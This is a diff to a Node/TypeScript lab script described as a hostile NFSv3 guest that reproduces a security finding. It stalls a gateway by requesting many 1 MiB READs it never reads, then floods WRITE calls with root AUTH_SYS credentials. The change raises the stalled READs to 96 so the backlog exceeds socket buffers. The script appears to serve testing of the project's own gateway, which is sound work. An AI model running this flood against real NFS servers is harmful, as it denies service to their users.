@@ -1,7 +1,7 @@
 /**
  * A hostile NFSv3 guest for issue 14 (finding 2), run inside a lab guest
  * namespace: `node nfs-flood.js HOST FILE SECONDS`. It mounts HOST's
- * /export/acme (MOUNT v3 on 20048), looks FILE up, asks for 32 READs of
+ * /export/acme (MOUNT v3 on 20048), looks FILE up, asks for 96 READs of
  * 1 MiB on one connection and never reads their replies, so the backend's
  * reply stream stalls mid-record; then, for SECONDS, it sends NFSv3 WRITE
  * calls as fast as the connection takes them (on a read-only grant the
@@ -13,6 +13,8 @@ import * as net from 'node:net';
 const LAST = 0x80000000;
 const PROG_NFS = 100003;
 const PROG_MOUNT = 100005;
+/** READs of 1 MiB asked for and never read (of a file of at least 64 MiB). */
+const READS = 96;
 
 /** An RPC call (RFC 5531 §9) with AUTH_SYS root, as one last fragment. */
 function call(xid: number, prog: number, vers: number, proc: number, args: Buffer): Buffer {
@@ -95,10 +97,13 @@ async function main(): Promise<void> {
     throw new Error(`LOOKUP status ${look.readUInt32BE(0)}`);
   }
   const fh = readOpaque(look, 4);
-  // From here on nothing is read: the replies to these READs stall.
+  // From here on nothing is read: the replies to these READs stall. More
+  // than every buffer on the way can take (the lab's tcp_rmem allows 32 MiB
+  // per socket: the guest's, the gateway's backend leg; 4 MiB of send
+  // buffer at the gateway and the server), so the stream stops mid-record.
   s.pause();
-  for (let i = 0; i < 32; i++) {
-    s.write(call(10 + i, PROG_NFS, 3, 6, Buffer.concat([opaque(fh), u32(0, i * 1024 * 1024, 1024 * 1024)])));
+  for (let i = 0; i < READS; i++) {
+    s.write(call(10 + i, PROG_NFS, 3, 6, Buffer.concat([opaque(fh), u32(0, (i % 64) * 1024 * 1024, 1024 * 1024)])));
   }
   // WRITE3args: file, offset, count, stable, data<> (empty).
   const args = Buffer.concat([opaque(fh), u32(0, 0, 0, 0, 0)]);
